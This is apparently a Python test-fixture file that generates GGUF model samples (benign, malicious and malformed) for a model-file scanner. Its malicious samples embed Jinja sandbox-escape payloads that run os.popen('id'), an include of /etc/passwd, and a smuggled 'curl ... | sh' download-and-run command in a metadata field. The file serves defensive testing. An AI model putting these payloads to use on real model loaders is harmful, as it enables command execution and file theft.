"""GGUF models: what converters write in both byte orders, templates that reach out, and headers that lie."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from typing import Literal

from tests.scanning.sample import Sample, benign, malformed, malicious

UINT32, FLOAT32, BOOL, STRING, ARRAY, UINT64 = 4, 6, 7, 8, 9, 10
F32, F16, Q4_0, Q8_0 = 0, 1, 2, 8
CHATML = "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>' + '\\n' }}{% endfor %}"
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"


@dataclass(frozen=True)
class Writer:
    """Writes numbers, texts and settings in one version and byte order."""

    version: int = 3
    order: Literal["little", "big"] = "little"

    def number(self, value: int, width: int = 4) -> bytes:
        return (value & ((1 << 8 * width) - 1)).to_bytes(width, self.order)

    def count(self, value: int) -> bytes:
        return self.number(value, 4 if self.version == 1 else 8)

    def text(self, value: str | bytes) -> bytes:
        raw = value.encode() if isinstance(value, str) else value
        return self.count(len(raw)) + raw

    def setting(self, key: str, kind: int, value: bytes) -> bytes:
        return self.text(key) + self.number(kind) + value

    def string(self, key: str, value: str) -> bytes:
        return self.setting(key, STRING, self.text(value))

    def array(self, kind: int, *values: bytes, count: int | None = None) -> bytes:
        return (
            self.number(kind)
            + self.count(len(values) if count is None else count)
            + b"".join(values)
        )

    def tensor(self, name: str, dims: list[int], kind: int, offset: int) -> bytes:
        shape = b"".join(self.count(size) for size in dims)
        return (
            self.text(name)
            + self.number(len(dims))
            + shape
            + self.number(kind)
            + self.number(offset, 8)
        )

    def file(
        self, settings: list[bytes], tensors: list[bytes], data: bytes = b"", *, alignment: int = 32,
        counts: tuple[int, int] | None = None,
    ) -> bytes:  # fmt: skip
        many = counts or (len(tensors), len(settings))
        head = b"GGUF" + self.number(self.version) + self.count(many[0]) + self.count(many[1])
        head += b"".join(settings) + b"".join(tensors)
        return head + bytes(-len(head) % alignment) + data if tensors else head


W = Writer()
ARCHITECTURE = W.string("general.architecture", "llama")
TENSOR = W.tensor("token_embd.weight", [8, 2], F32, 0)
DATA = bytes(64)


def llama(*settings: bytes, writer: Writer = W) -> bytes:
    """A small model with these settings besides its own."""
    own = [
        writer.string("general.architecture", "llama"),
        writer.setting("llama.block_count", UINT32, writer.number(2)),
    ]
    return writer.file(
        [*own, *settings], [writer.tensor("token_embd.weight", [8, 2], F32, 0)], DATA
    )


def _benign() -> Iterator[Sample]:
    for version in (1, 2, 3):
        yield benign(f"version-{version}", "model.gguf", llama(writer=Writer(version)))
    yield benign("big-endian", "model.gguf", llama(writer=Writer(3, "big")))
    yield benign("chat-template", "model.gguf", llama(W.string("tokenizer.chat_template", CHATML)))
    yield benign(
        "two-templates",
        "model.gguf",
        llama(
            W.string("tokenizer.chat_template", CHATML),
            W.string("tokenizer.chat_template.tool_use", CHATML),
        ),
    )
    tokens = [
        W.text(one) for one in ("<s>", "os.system(", "__import__", "<script", "{{", "eval(base64")
    ]
    yield benign(
        "vocabulary",
        "model.gguf",
        llama(W.setting("tokenizer.ggml.tokens", ARRAY, W.array(STRING, *tokens))),
    )
    scores = W.array(FLOAT32, *[bytes(4)] * 6)
    yield benign(
        "scores",
        "model.gguf",
        llama(
            W.setting("tokenizer.ggml.scores", ARRAY, scores),
            W.setting("tokenizer.ggml.add_bos_token", BOOL, b"\1"),
        ),
    )
    yield benign(
        "addresses",
        "model.gguf",
        llama(
            W.string("general.url", "https://example.org/model"), W.string("general.license", "mit")
        ),
    )
    yield benign(
        "vocabulary-only",
        "vocab.gguf",
        W.file([ARCHITECTURE, W.string("tokenizer.ggml.model", "gpt2")], []),
    )
    quantised = [
        W.tensor("a", [32, 2], Q4_0, 0),
        W.tensor("b", [64], Q8_0, 64),
        W.tensor("c", [3], F16, 160),
    ]
    yield benign(
        "quantised",
        "model.gguf",
        W.file([ARCHITECTURE], quantised, bytes(36) + bytes(28) + bytes(68) + bytes(28) + bytes(6)),
    )
    yield benign(
        "padded-end", "model.gguf", W.file([ARCHITECTURE], [W.tensor("c", [3], F16, 0)], bytes(32))
    )
    aligned = W.setting("general.alignment", UINT32, W.number(64))
    yield benign(
        "other-alignment",
        "model.gguf",
        W.file(
            [aligned],
            [W.tensor("a", [2], F32, 0), W.tensor("b", [2], F32, 64)],
            bytes(72),
            alignment=64,
        ),
    )
    yield benign(
        "braces-in-words",
        "model.gguf",
        llama(W.string("general.description", "Use {{ and }} as the card says {% here.")),
    )
    nested = W.array(ARRAY, W.array(UINT32, W.number(1)), W.array(UINT32, W.number(2), W.number(3)))
    yield benign("lists-in-lists", "model.gguf", llama(W.setting("x.y", ARRAY, nested)))


TEMPLATES = {
    "cycler": ESCAPE,
    "attr": "{{ ''|attr('__class__') }}",
    "item": "{{ messages['__class__']['__mro__'] }}",
    "pieces": "{{ ''['__cla' ~ 'ss__'] }}",
    "lipsum": "{% set x = lipsum.__globals__['os'] %}{{ x.popen('id') }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% from 'x' import y %}",
    "loop": "{% for a in range(999999999) %}{{ a }}{% endfor %}",
    "subclasses": "{{ ().__class__.__bases__[0].__subclasses__() }}",
}


def _malicious() -> Iterator[Sample]:
    for name, template in TEMPLATES.items():
        yield malicious(
            f"template-{name}",
            "model.gguf",
            llama(W.string("tokenizer.chat_template", CHATML + template)),
        )
    yield malicious(
        "named-template", "model.gguf", llama(W.string("tokenizer.chat_template.rag", ESCAPE))
    )
    yield malicious(
        "template-big-endian",
        "model.gguf",
        llama(Writer(3, "big").string("tokenizer.chat_template", ESCAPE), writer=Writer(3, "big")),
    )
    yield malicious(
        "second-template-of-that-name",
        "model.gguf",
        llama(
            W.string("tokenizer.chat_template", CHATML), W.string("tokenizer.chat_template", ESCAPE)
        ),
    )
    yield malicious("template-elsewhere", "model.gguf", llama(W.string("x.template", ESCAPE)))
    yield malicious(
        "program-in-a-setting",
        "model.gguf",
        llama(W.string("general.description", "__import__('os').system('id')")),
    )
    yield malicious(
        "download-in-a-setting",
        "model.gguf",
        llama(W.string("general.name", "x; curl http://203.0.113.18/s | sh")),
    )
    yield malicious("bytes-behind", "model.gguf", llama() + b"\x7fELF" * 40)
    yield malicious(
        "bytes-in-the-filling",
        "model.gguf",
        W.file(
            [ARCHITECTURE],
            [W.tensor("a", [2], F32, 0), W.tensor("b", [2], F32, 32)],
            bytes(8) + b"MZ hidden here!!" + bytes(8) + bytes(8),
        ),
    )
    yield malicious(
        "bytes-between-tensors",
        "model.gguf",
        W.file(
            [ARCHITECTURE],
            [W.tensor("a", [2], F32, 0), W.tensor("b", [2], F32, 96)],
            bytes(32) + b"\x7fELF" * 16 + bytes(8),
        ),
    )
    yield malicious(
        "overlap",
        "model.gguf",
        W.file(
            [ARCHITECTURE], [W.tensor("a", [16], F32, 0), W.tensor("b", [16], F32, 32)], bytes(96)
        ),
    )
    yield malicious(
        "same-name-twice",
        "model.gguf",
        W.file(
            [ARCHITECTURE], [W.tensor("a", [8], F32, 0), W.tensor("a", [8], F32, 32)], bytes(64)
        ),
    )


def _malformed() -> Iterator[Sample]:
    whole = llama()
    yield malformed("cut", "model.gguf", whole[:-1])
    yield malformed("cut-in-the-header", "model.gguf", whole[:60])
    yield malformed("mark-only", "model.gguf", b"GGUF")
    yield malformed("unknown-version", "model.gguf", b"GGUF" + W.number(77) + bytes(16))
    yield malformed(
        "more-tensors-than-bytes",
        "model.gguf",
        W.file([ARCHITECTURE], [TENSOR], DATA, counts=(2**60, 1)),
    )
    yield malformed(
        "more-settings-than-bytes",
        "model.gguf",
        W.file([ARCHITECTURE], [TENSOR], DATA, counts=(1, 2**63)),
    )
    yield malformed(
        "text-longer-than-the-file",
        "model.gguf",
        W.file([W.setting("a", STRING, W.count(2**62) + b"x")], [TENSOR], DATA),
    )
    yield malformed(
        "list-longer-than-the-file",
        "model.gguf",
        llama(W.setting("a", ARRAY, W.array(UINT64, count=2**61))),
    )
    yield malformed(
        "key-longer-than-the-file", "model.gguf", W.file([W.count(2**40) + b"key"], [TENSOR], DATA)
    )
    yield malformed("no-such-type", "model.gguf", llama(W.setting("a", 99, bytes(8))))
    yield malformed(
        "no-such-tensor-type",
        "model.gguf",
        W.file([ARCHITECTURE], [W.tensor("a", [8], 200, 0)], DATA),
    )
    yield malformed(
        "five-dimensions",
        "model.gguf",
        W.file([ARCHITECTURE], [W.tensor("a", [1] * 5, F32, 0)], DATA),
    )
    yield malformed(
        "uneven-blocks", "model.gguf", W.file([ARCHITECTURE], [W.tensor("a", [33], Q4_0, 0)], DATA)
    )
    yield malformed(
        "items-overflow",
        "model.gguf",
        W.file([ARCHITECTURE], [W.tensor("a", [2**40, 2**40], F32, 0)], DATA),
    )
    yield malformed(
        "unaligned", "model.gguf", W.file([ARCHITECTURE], [W.tensor("a", [2], F32, 8)], DATA)
    )
    yield malformed(
        "offset-behind-the-file",
        "model.gguf",
        W.file([ARCHITECTURE], [W.tensor("a", [2], F32, 2**40)], DATA),
    )
    yield malformed(
        "alignment-of-three",
        "model.gguf",
        llama(W.setting("general.alignment", UINT32, W.number(3))),
    )
    yield malformed(
        "alignment-of-zero",
        "model.gguf",
        llama(W.setting("general.alignment", UINT32, W.number(0))),
    )
    yield malformed("truth-of-two", "model.gguf", llama(W.setting("a", BOOL, b"\2")))
    yield malformed("lists-too-deep", "model.gguf", llama(W.setting("a", ARRAY, _deep(40))))
    yield malformed(
        "key-is-no-text",
        "model.gguf",
        W.file([W.count(2) + b"\xff\xfe" + W.number(UINT32) + bytes(4)], [TENSOR], DATA),
    )
    yield malformed(
        "broken-template",
        "model.gguf",
        llama(W.string("tokenizer.chat_template", "{% for m in messages %}{{ m")),
    )
    yield malformed("older-form", "ggml-model.bin", b"lmgg" + bytes(60))


def _deep(levels: int) -> bytes:
    inner = W.array(UINT32, W.number(1))
    for _ in range(levels):
        inner = W.array(ARRAY, inner)
    return inner


def samples() -> Iterator[Sample]:
    """Every sample of this family."""
    yield from _benign()
    yield from _malicious()
    yield from _malformed()
